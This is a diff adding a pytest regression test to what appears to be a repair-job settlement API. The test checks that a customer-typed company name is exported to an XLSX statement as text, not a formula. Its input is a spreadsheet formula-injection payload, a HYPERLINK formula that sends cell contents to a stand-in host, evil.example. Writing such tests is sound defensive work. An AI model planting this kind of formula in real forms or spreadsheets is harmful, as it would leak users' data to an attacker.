@@ -5,6 +5,7 @@ as PDF and XLSX, and van stock reconciled against parts used; on both databases.
 from __future__ import annotations
 
 import io
+import time
 import uuid
 from datetime import UTC, date, datetime, timedelta
 from decimal import Decimal
@@ -17,6 +18,7 @@ import pytest
 from openpyxl import load_workbook
 
 from api.db import Database
+from api.domain.intake.services import form_token
 from api.domain.settlement.services import default_labour_hours
 from api.models import Asset
 from tests.api.visits import dispatched_job, phone_of, visit
@@ -246,3 +248,30 @@ async def test_reclassify_patch_settle_freeze_and_the_statement(
     assert rows[1][1] == frozen["number"]
     totals = {str(r[0]).split()[-1]: r[5] for r in rows[-3:]}
     assert totals == {"Warranty": 540.0, "Chargeable": 950.0, "Total": 1490.0}
+
+
+async def test_text_a_customer_typed_is_text_in_the_statement_workbook_not_a_formula(
+    client: httpx.AsyncClient, world: World, desk: Headers, app: Any
+) -> None:
+    # The public form (no account) names a new customer after the company typed in it.
+    company = '=HYPERLINK("http://evil.example/?x="&A1,"查看详情")'
+    token = form_token(app.state["secret_key"], now=time.time() - 10)
+    sent = await client.post(
+        "/api/public/fault-reports",
+        json={
+            "token": token,
+            "contact_name": "某人",
+            "contact_phone": "186 0000 4321",
+            "company": company,
+            "description": "设备异响，无法启动",
+        },
+    )
+    assert sent.status_code == 201, sent.text
+    jobs = (await client.get("/api/jobs", params={"q": sent.json()["number"]}, headers=desk)).json()
+    (job,) = jobs["items"]
+    assert job["customer_name"] == company
+    xlsx = await client.get(f"/api/jobs/{job['id']}/settlement/statement.xlsx", headers=desk)
+    assert xlsx.status_code == 200, xlsx.text
+    sheet = load_workbook(io.BytesIO(xlsx.content)).active
+    (cell,) = [c for row in sheet.iter_rows() for c in row if c.value == company]
+    assert cell.data_type == "s", "Excel would run it as a formula"
